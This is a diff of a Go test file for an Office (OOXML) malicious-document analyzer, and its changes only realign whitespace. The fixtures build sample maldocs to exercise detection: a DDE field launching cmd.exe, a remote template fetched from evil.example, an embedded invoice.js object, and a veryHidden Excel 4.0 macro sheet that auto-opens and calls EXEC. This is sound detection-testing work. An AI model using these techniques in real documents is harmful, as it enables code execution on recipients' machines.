@@ -131,8 +131,8 @@ func TestOOXMLFindings(t *testing.T) {
 		"[Content_Types].xml": ct,
 		"word/document.xml": []byte(`<w:document><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:p>` +
 			`<w:fldSimple w:instr=" HYPERLINK &quot;x&quot; "/></w:body></w:document>`),
-		"word/_rels/settings.xml.rels": []byte(`<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`),
-		"word/_rels/document.xml.rels": []byte(`<Relationships><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://link.example/a" TargetMode="External"/></Relationships>`),
+		"word/_rels/settings.xml.rels":   []byte(`<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`),
+		"word/_rels/document.xml.rels":   []byte(`<Relationships><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://link.example/a" TargetMode="External"/></Relationships>`),
 		"word/embeddings/oleObject1.bin": testdoc.CFB(map[string][]byte{"\x01Ole10Native": ole10Native("invoice.js", []byte("WScript.Echo(1)"))}),
 	})
 	r := AnalyzeOOXML(openZip(t, docx), Limits{})
@@ -167,11 +167,11 @@ func ole10Native(name string, data []byte) []byte {
 
 func TestXLMOOXML(t *testing.T) {
 	x := testdoc.Zip(map[string][]byte{
-		"[Content_Types].xml":          []byte(`<Types/>`),
-		"xl/workbook.xml":              []byte(`<workbook><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/></sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>`),
-		"xl/_rels/workbook.xml.rels":   []byte(`<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="x/xlIntlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>`),
-		"xl/worksheets/sheet1.xml":     []byte(`<worksheet/>`),
-		"xl/macrosheets/sheet1.xml":    []byte(`<xm:macrosheet><sheetData><row><c><f>EXEC("calc.exe")</f></c><c><f>HALT()</f></c></row></sheetData></xm:macrosheet>`),
+		"[Content_Types].xml":        []byte(`<Types/>`),
+		"xl/workbook.xml":            []byte(`<workbook><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/></sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>`),
+		"xl/_rels/workbook.xml.rels": []byte(`<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="x/xlIntlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>`),
+		"xl/worksheets/sheet1.xml":   []byte(`<worksheet/>`),
+		"xl/macrosheets/sheet1.xml":  []byte(`<xm:macrosheet><sheetData><row><c><f>EXEC("calc.exe")</f></c><c><f>HALT()</f></c></row></sheetData></xm:macrosheet>`),
 	})
 	r := AnalyzeOOXML(openZip(t, x), Limits{})
 	if !r.XLM || !r.XLMHidden || !r.XLMAutoOpen || r.Kind != "xlsm" || len(r.XLMCalls) == 0 {
